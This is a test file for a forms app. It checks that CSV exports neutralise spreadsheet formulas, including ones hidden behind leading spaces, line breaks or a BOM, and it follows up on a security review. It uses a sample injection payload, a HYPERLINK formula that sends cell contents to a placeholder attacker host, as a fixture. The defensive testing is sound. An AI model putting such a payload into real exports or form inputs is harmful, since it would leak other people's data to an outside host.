// Seventh review (2026-11-28, docs/security-review.md): the CSV exports and the sheet preset
// neutralised a text starting with `= + - @`, tab or CR, but LibreOffice (`soffice
// --convert-to xlsx` of the owner's export, formulas evaluated as its CSV import does) read
// ` =1+1` (any number of spaces) as a formula: an anonymous answer ` =HYPERLINK("https://evil.example/?"&B2)`
// was a live formula in the owner's sheet. Spaces, line breaks and a BOM before the
// sign now get the `'` too, on both CSV writers (the database's COPY and the batched one).
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { csvText, encode } from "../../functions/exports/copy-rows.ts";
import { csvCell } from "../../src/core/csv.ts";
import { client } from "../helpers/api.ts";
import { DB_KINDS } from "../helpers/db.ts";
import { startTestServer, type TestServer, testFetch } from "../helpers/server.ts";

const FORMULA = `=HYPERLINK("https://evil.example/?"&B2)`;
const STARTS = [" ", "   ", "\ufeff", " \ufeff", "\n", "\t ", "\r\n "];

describe("a text that a spreadsheet could run", () => {
  it.each(STARTS.map((s) => [JSON.stringify(s), s]))("is neutralised after %s", (_, start) => {
    expect(csvCell(`${start}${FORMULA}`)).toMatch(/^"?'/);
    expect(csvCell(`${start}+1+1`)).toMatch(/^"?'/);
    // the database's writer reads a cell as UTF-8 bytes, one character each
    expect(csvText(encode(`${start}+1+1`))).toMatch(/^"?'/);
  });

  it("is still left alone when it is plain text or a number", () => {
    expect(csvCell(" hello = world")).toBe(" hello = world");
    expect(csvCell(-4)).toBe("-4");
    expect(csvCell("Ünal")).toBe("Ünal");
    // LibreOffice reads these as text; they are left as they were
    expect(csvCell("\u00a0- item")).toBe("\u00a0- item");
    expect(csvCell("\u3000=1")).toBe("\u3000=1");
  });
});

describe.each(DB_KINDS)("the CSV export of a stranger's spaced formula (%s)", (kind) => {
  let s: TestServer;
  beforeAll(async () => {
    s = await startTestServer({ db: kind });
    const api = client(s.url, s.apiKey);
    const made = await api("POST", "/api/forms", {
      body: {
        title: "Sign-up",
        slug: "signup",
        humanness: false,
        fields: [
          { id: "name", type: "text", label: "Name" },
          { id: "team", type: "checkbox", label: "Team", options: [" =red", "blue"] },
        ],
      },
    });
    expect(made.status, JSON.stringify(made.body)).toBe(201);
    for (const start of STARTS) {
      const sent = await api("POST", "/api/forms/signup/submit", {
        key: null,
        body: { fields: { name: `${start}${FORMULA}`, team: [" =red"] } },
      });
      expect(sent.status, JSON.stringify(sent.body)).toBe(201);
    }
  });
  afterAll(() => s?.close());

  it("holds every one as text", async () => {
    const res = await testFetch(`${s.url}/api/forms/signup/responses/export?format=csv`, {
      headers: { authorization: `Bearer ${s.apiKey}` },
    });
    expect(res.status).toBe(200);
    const text = await res.text();
    for (const start of STARTS) expect(text).toContain(`"'${start}${FORMULA.replace(/"/g, '""')}"`);
    expect(text.split("' =red").length - 1).toBe(STARTS.length);
  });
});
